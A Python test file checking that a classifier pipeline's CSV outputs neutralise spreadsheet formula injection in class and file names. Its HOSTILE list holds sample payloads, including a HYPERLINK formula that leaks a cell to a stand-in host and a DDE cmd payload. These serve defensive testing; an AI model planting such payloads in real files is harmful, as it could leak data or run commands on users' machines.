"""Names from a data set in the CSV files the pipeline writes: a spreadsheet that opens them runs no
class or file name as a formula, and the pipeline reads back the names it wrote."""

from __future__ import annotations

import csv

import numpy as np

from classifier import saving
from classifier.data import manifest
from classifier.metrics import reports
from classifier.model import audit

#: Names a spreadsheet would run as formulas, and names that only look like one of them.
HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"cat")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
PLAIN = ["cat", "'quoted", "a=b", "1-2", ""]


def cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_text_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was():
    for name in HOSTILE + PLAIN:
        written = saving.csv_text(name)
        assert saving.from_csv_text(written) == name
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [saving.csv_text(name) for name in HOSTILE] == [f"'{name}" for name in HOSTILE]
    assert [saving.csv_text(name) for name in PLAIN] == ["cat", "''quoted", "a=b", "1-2", ""]


def test_the_manifest_keeps_hostile_class_names_inert_and_reads_them_back(tmp_path):
    rows = [
        {"path": f"train/{name}/{i}.jpg", "label": name, "split": "train", "sha256": f"{i:064d}"}
        for i, name in enumerate(HOSTILE[:4] + ["-1", "cat"])
    ]
    manifest.write(tmp_path, rows)
    written = cells(tmp_path / manifest.MANIFEST)[1:]
    assert {row[1] for row in written} == {"'" + name for name in HOSTILE[:4]} | {"'-1", "cat"}
    assert not [cell for row in written for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert sorted(manifest.read(tmp_path), key=lambda r: r["sha256"]) == rows


def test_reports_name_classes_and_pictures_as_text(tmp_path):
    classes = [HOSTILE[0], "dog"]
    metrics = {
        "per_class": {
            name: {"images": 2, "recall": 0.5, "precision": 1.0, "f1": 0.6, "roc_auc": None} for name in classes
        }
    }
    reports.write_per_class(tmp_path / "per_class.csv", metrics)
    assert [row[0] for row in cells(tmp_path / "per_class.csv")] == ["class", f"'{HOSTILE[0]}", "dog"]

    ranking = audit.Ranking(
        order=np.array([1, 0]),
        quality=np.array([0.9, 0.1]),
        flagged=np.array([False, True]),
        suggested=np.array([1, 0]),
    )
    audit.write_suspects(
        tmp_path / "suspects.csv", ranking, ["@a.jpg", "b.jpg"], ["train", "train"], np.array([0, 1]), classes
    )
    assert cells(tmp_path / "suspects.csv")[1:] == [
        ["1", "b.jpg", "train", "dog", f"'{HOSTILE[0]}", "0.100000", "1"],
        ["2", "'@a.jpg", "train", f"'{HOSTILE[0]}", "dog", "0.900000", "0"],
    ]
